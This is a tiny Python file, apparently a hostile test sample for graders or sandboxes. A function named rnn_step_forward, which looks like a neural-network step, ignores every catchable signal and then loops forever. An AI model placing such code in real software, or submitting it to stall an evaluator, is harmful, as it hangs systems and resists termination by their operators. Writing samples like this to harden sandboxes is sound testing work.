"""Ignores every signal that can be ignored, and never ends."""

import contextlib
import signal


def ignore_all():
    for number in range(1, 65):
        with contextlib.suppress(OSError, ValueError):
            signal.signal(number, signal.SIG_IGN)


def rnn_step_forward(x, prev_h, Wx, Wh, b):
    ignore_all()
    while True:
        pass
